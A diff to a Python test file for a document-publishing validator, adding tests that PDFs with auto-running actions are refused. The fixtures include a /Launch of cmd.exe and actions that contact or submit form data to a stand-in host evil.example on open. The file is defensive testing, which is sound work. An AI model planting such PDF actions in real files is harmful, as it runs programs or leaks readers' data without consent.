@@ -23,6 +23,10 @@ Found by this pass (before the fix → now):
    gate read its parts for words and published it; a PDF with a script it refused. Now GK610 names the part, the
    address and what to do (privacy.fetched); a link the reader clicks and a path on the clerk's own disk
    (file:///D:/模板/公文.dotx, which Word notes for a 公文 made from a template) are left alone.
+4. The same for a PDF's actions: one that runs a program (/Launch cmd.exe), sends or loads form data (/SubmitForm,
+   /ImportData), opens a file on a share (/GoToR \\\\host\\share\\x.pdf), or an address as the file opens, without a
+   click (/OpenAction /URI: every reader counted) — published, where a script (/JavaScript) was refused. Now GK610
+   says which action; a link the reader clicks and a /GoToR to a file beside it are left alone.
 """
 
 from __future__ import annotations
@@ -299,3 +303,47 @@ def test_a_clicked_link_and_the_clerk_s_own_template_are_published(gk, cat, tmp_
     assert run.code == 0, run.out
     built(gk, cat, tmp_path / "site")
     assert (tmp_path / "site/files/2026/tongzhi.docx").is_file()
+
+
+PDF = text_pdf("Tongzhi zhengwen")
+OPENS = b"<< /Type /Catalog /Pages 2 0 R >>"
+
+
+def acting(action: bytes) -> bytes:
+    """The PDF, doing *action* as it opens (the document's /OpenAction)."""
+    assert OPENS in PDF
+    return PDF.replace(OPENS, b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>")
+
+
+ACTIONS = {
+    "runs a program": (b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", "PDF 中有运行电脑上的程序的动作（Launch）"),
+    "visits as it opens": (b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/t) >> >>",
+                           "PDF 一打开就访问地址「http://evil.example/t」（不经读者点击）"),
+    "opens a share": (b"<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>",
+                      "PDF 中有打开另一台电脑上的文件「//evil.example/share/x.pdf」的动作"),
+    "sends the form": (b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/s) >> >>",
+                       "PDF 中有把表单中填写的内容发送到别处的动作（SubmitForm）"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(ACTIONS))
+def test_a_pdf_that_runs_or_fetches_something_is_not_published(gk, cat, tmp_path, case):
+    action, said = ACTIONS[case]
+    attaching_file(cat, "tongzhi.pdf", acting(action))
+    run = gk("validate", cat.root)
+    assert run.code == 1
+    assert gk6(run)[0].startswith(f"17:9 错误 GK610 附件「files/2026/tongzhi.pdf」无法读取：{said}，不能公开；")
+    built(gk, cat, tmp_path / "site")
+    assert not (tmp_path / "site/files/2026/tongzhi.pdf").exists()
+
+
+def test_a_pdf_s_clicked_link_and_a_link_to_the_file_beside_it_are_published(gk, cat, tmp_path):
+    page = b"/MediaBox [0 0 612 792] "
+    assert page in PDF
+    linked = acting(b"<< /S /GoToR /F (fujian2.pdf) /D [0 /Fit] >>").replace(page, page + (
+        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gov.cn/) >> >>] "))
+    attaching_file(cat, "tongzhi.pdf", linked)
+    run = gk("validate", cat.root)
+    assert run.code == 0, run.out
+    built(gk, cat, tmp_path / "site")
+    assert (tmp_path / "site/files/2026/tongzhi.pdf").is_file()
